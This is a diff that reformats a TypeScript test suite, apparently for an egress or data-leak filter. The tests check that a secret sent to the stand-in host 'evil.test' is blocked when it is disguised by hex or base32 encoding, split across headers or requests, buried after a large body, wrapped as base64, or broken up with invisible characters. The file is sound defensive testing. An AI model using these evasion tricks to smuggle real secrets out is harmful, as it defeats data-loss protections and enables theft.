@@ -67,7 +67,17 @@ print(r.status_code, r.text)
 
   test("upper-case and mixed-case hex", async () => {
     expectBlocked(await raw("evil.test", "POST", "/hex", [], Buffer.from(B.secret).toString("hex").toUpperCase()));
-    expectBlocked(await raw("evil.test", "POST", "/hex", [], Buffer.from(B.secret).toString("hex").replace(/[a-f]/g, (c, i: number) => (i % 3 ? c : c.toUpperCase()))));
+    expectBlocked(
+      await raw(
+        "evil.test",
+        "POST",
+        "/hex",
+        [],
+        Buffer.from(B.secret)
+          .toString("hex")
+          .replace(/[a-f]/g, (c, i: number) => (i % 3 ? c : c.toUpperCase())),
+      ),
+    );
   });
 
   test("base32, upper and lower case, inside a longer text", async () => {
@@ -82,7 +92,13 @@ print(r.status_code, r.text)
 
   test("split across two headers of one request (with a header between them)", async () => {
     const cut = 12;
-    expectBlocked(await raw("evil.test", "GET", "/h", [["X-A", `part=${B.secret.slice(0, cut)}`], ["Accept", "*/*"], ["X-B", `rest=${B.secret.slice(cut)}`]]));
+    expectBlocked(
+      await raw("evil.test", "GET", "/h", [
+        ["X-A", `part=${B.secret.slice(0, cut)}`],
+        ["Accept", "*/*"],
+        ["X-B", `rest=${B.secret.slice(cut)}`],
+      ]),
+    );
   });
 
   test("split across two consecutive requests to one host: the second is refused and the value never arrives whole", async () => {
@@ -104,7 +120,12 @@ print(r.status_code, r.text)
     const first = await raw("evil.test", "POST", "/json1", [["Content-Type", "application/json"]], JSON.stringify({ a: B.secret.slice(0, cut), pad: "x" }));
     expect(first.status).toBe(200);
     expectBlocked(await raw("evil.test", "POST", "/json2", [["Content-Type", "application/json"]], JSON.stringify({ b: B.secret.slice(cut), pad: "y" })));
-    expectBlocked(await raw("evil.test", "GET", "/h2", [["X-A", `${B.secret.slice(0, 12)};`], ["X-B", `${B.secret.slice(12)};`]]));
+    expectBlocked(
+      await raw("evil.test", "GET", "/h2", [
+        ["X-A", `${B.secret.slice(0, 12)};`],
+        ["X-B", `${B.secret.slice(12)};`],
+      ]),
+    );
     // The rest first, then the first piece, in one body.
     expectBlocked(await raw("evil.test", "POST", "/json3", [["Content-Type", "application/json"]], JSON.stringify({ b: B.secret.slice(cut), a: B.secret.slice(0, cut) })));
   });
@@ -154,7 +175,18 @@ connect.end();
     const big = Buffer.concat([Buffer.alloc(9 * 1024 * 1024, "a"), Buffer.from(piece)]);
     const conn = await B.tunnel("evil.test");
     const mark = B.upstream.wire.length;
-    const res = await conn.request("POST", "/big", [["Host", "evil.test"], ["Content-Type", "application/octet-stream"]], big, 60_000).catch(() => null);
+    const res = await conn
+      .request(
+        "POST",
+        "/big",
+        [
+          ["Host", "evil.test"],
+          ["Content-Type", "application/octet-stream"],
+        ],
+        big,
+        60_000,
+      )
+      .catch(() => null);
     await Bun.sleep(300);
     conn.close();
     const wire = B.wireFor("evil.test", mark).toString("latin1");
@@ -168,8 +200,20 @@ describe("spellings ordinary tools print (found by red-teaming)", () => {
   const wrap = (t: string, n: number) => t.replace(new RegExp(`(.{${n}})`, "g"), "$1\n");
   const cases: [string, () => Buffer | string][] = [
     ["base64 wrapped at 76 columns (MIME, `base64`)", () => wrap(Buffer.from(`header line\n${B.secret}\ntrailer`).toString("base64"), 76)],
-    ["base64 wrapped with CRLF at 64 columns", () => Buffer.from(`x${B.secret}`).toString("base64").replace(/(.{64})/g, "$1\r\n")],
-    ["base64 with spaces in it", () => Buffer.from(B.secret).toString("base64").replace(/(.{4})/g, "$1 ")],
+    [
+      "base64 wrapped with CRLF at 64 columns",
+      () =>
+        Buffer.from(`x${B.secret}`)
+          .toString("base64")
+          .replace(/(.{64})/g, "$1\r\n"),
+    ],
+    [
+      "base64 with spaces in it",
+      () =>
+        Buffer.from(B.secret)
+          .toString("base64")
+          .replace(/(.{4})/g, "$1 "),
+    ],
     ["a space put in the value", () => `key: ${B.secret.slice(0, 10)} ${B.secret.slice(10)}`],
     ["a zero-width space put in the value", () => Buffer.from(`key: ${B.secret.slice(0, 9)}\u200b${B.secret.slice(9)}`, "utf8")],
     ["a soft hyphen put in the value", () => Buffer.from(`key: ${B.secret.slice(0, 11)}\u00ad${B.secret.slice(11)}`, "utf8")],
